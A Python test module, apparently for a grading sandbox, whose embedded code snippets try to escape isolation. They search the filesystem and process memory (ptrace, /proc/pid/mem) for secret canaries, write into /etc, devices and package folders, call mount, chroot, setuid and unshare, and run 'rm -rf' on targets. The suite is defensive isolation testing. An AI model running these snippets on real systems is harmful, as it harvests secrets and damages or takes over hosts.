"""Attacks by code that reach for what lies outside of the sandbox: secrets, files, processes.

Each reports what it got hold of. ``OUTSIDE`` tells it all that an insider could know: where everything lies. (Accounts,
rights and the network: tests/grading/isolation.)
"""

from hostile import CANARY, Attack

# Every file that can be read, as far as that goes in a few seconds, searched for what looks like a secret.
SEARCHES = f"""
import re
canary = re.compile(rb"{CANARY}")
got, found = [], set()
def read(path):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with open(descriptor, "rb") as file: return file.read(3_000_000)
    except (OSError, ValueError): return None
for path in OUTSIDE["secrets"]:
    for prefix in ("", "/proc/1/root", f"/proc/{{os.getppid()}}/root", "/proc/1/cwd", "/newroot", "/oldroot"):
        if read(prefix + path) is not None or os.path.lexists(prefix + path): got.append(path)
places = ["/", os.path.expanduser("~"), "/home", "/root", "/tmp", "/var", "/etc", "/run", "/mnt", "/opt", "/dev/shm"]
until = time.monotonic() + 2.5
for place in [*places, *sys.path[:2]]:
    for folder, names, files in os.walk(place):
        if folder.startswith(("/proc", "/sys", "/usr", sys.base_prefix)) or time.monotonic() > until: names.clear()
        for name in files:
            if time.monotonic() > until: break  # a folder of large files alone is longer than the cell may take
            found |= set(canary.findall(read(os.path.join(folder, name)) or b""))
import importlib.util
modules = []
for name in ("marking.marking", "gradebook", "isolation", "design", "model", "stiffness", "symbolic", "course"):
    try:
        if importlib.util.find_spec(f"labcourse.grading.{{name}}"): modules.append(name)
    except ImportError: pass
report |= {{"got": got, "canaries": [one.decode() for one in found], "modules": modules}}
"""
# The memory, environment and descriptors of every process that can be seen, and of those whose numbers are known.
MEMORIES = f"""
import ctypes, re
canary = re.compile(rb"{CANARY}")
libc = ctypes.CDLL(None, use_errno=True)
found, attached, outer = set(), [], []
until = time.monotonic() + 3
def look(data): found.update(canary.findall(data))
pids = [pid for pid in os.listdir("/proc") if pid.isdigit()]
for pid in [*pids, *map(str, OUTSIDE["processes"])]:
    for name in ("environ", "cmdline", "maps", "stack", "cwd", "root"):
        try: look(open(f"/proc/{{pid}}/{{name}}", "rb").read(1_000_000))
        except OSError: pass
    if int(pid) != os.getpid() and libc.ptrace(16, int(pid), 0, 0) == 0:
        attached.append(pid)
        libc.ptrace(17, int(pid), 0, 0)
    try:
        memory = open(f"/proc/{{pid}}/mem", "rb", buffering=0)
        areas = [line.split("-", 1) for line in open(f"/proc/{{pid}}/maps") if line.split()[1].startswith("rw")]
    except OSError: continue
    for area in areas:
        first, last = int(area[0], 16), int(area[1].split()[0], 16)
        if int(pid) == os.getpid() or time.monotonic() > until: break
        try:
            memory.seek(first)
            look(memory.read(min(last - first, 8 << 20)))
        except (OSError, OverflowError, ValueError): pass
    try: descriptors = os.listdir(f"/proc/{{pid}}/fd")
    except OSError: descriptors = []
    for descriptor in descriptors:
        for up in ("", "/..", "/../..", "/../../..") :
            path = f"/proc/{{pid}}/fd/{{descriptor}}{{up}}" + OUTSIDE["marker"]
            if os.path.exists(path): outer.append(path)
report |= {{"canaries": [one.decode() for one in found], "seen": len(pids) < 12, "outer": outer,
           "unknown": [pid for pid in attached if pid not in pids],
           "variables": sorted(set(os.environ) & set(OUTSIDE["variables"]))}}
"""
WRITES = """
import ctypes, pathlib, subprocess
libc = ctypes.CDLL(None, use_errno=True)
written = []
def attempt(what, action):
    try: action()
    except BaseException: return
    written.append(what)
def append(path):
    with open(path, "ab") as file: file.write(b"# " + OUTSIDE["token"].encode())
for path in OUTSIDE["targets"]:
    attempt(path, lambda: append(path))
    attempt(path, lambda: append(os.path.join(path, "hostile-" + OUTSIDE["token"])))
    attempt(path, lambda: os.rename(path, path + "-moved"))
    attempt(path, lambda: os.chmod(path, 0o777))
import rotflex, numpy, sysconfig
packages = [rotflex.__path__[0], numpy.__path__[0], sysconfig.get_path("purelib")]
for folder in (*packages, sys.prefix, "/usr/lib", "/etc", "/", "/var"):
    attempt(folder, lambda: append(os.path.join(folder, "hostile-" + OUTSIDE["token"])))
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs", "/dev/mem",
             "/dev/sda", "/proc/1/oom_score_adj", rotflex.__file__, sys.executable):
    attempt(path, lambda: os.close(os.open(path, os.O_WRONLY)))
def called(number):
    if number: raise OSError(ctypes.get_errno())
attempt("mount", lambda: called(libc.mount(b"none", b"/tmp/work", b"tmpfs", 0, None)))
attempt("remount", lambda: called(libc.mount(None, b"/", None, 32, None)))
attempt("umount", lambda: called(libc.umount2(b"/tmp", 2)))
attempt("unshare", lambda: called(libc.unshare(0x10000000 | 0x00020000)))
attempt("setns", lambda: called(libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0)))
attempt("chroot", lambda: os.chroot("/proc/1/root"))
attempt("become root", lambda: os.setuid(0))
attempt("device", lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)))
attempt("terminal", lambda: __import__("fcntl").ioctl(0, 0x5412, b"x"))
subprocess.run(["sh", "-c", f"rm -rf {OUTSIDE['marker']} {' '.join(OUTSIDE['targets'])}"], capture_output=True)
report["written"] = written
"""

REACH = {
    "searches": Attack({"q2-11": SEARCHES}, finds={"got": [], "canaries": [], "modules": []}),
    "reads-memories": Attack(
        {"q2-11": MEMORIES}, finds={"canaries": [], "seen": True, "outer": [], "unknown": [], "variables": []}
    ),
    "writes-outside": Attack({"q2-11": WRITES}, finds={"written": []}),
}
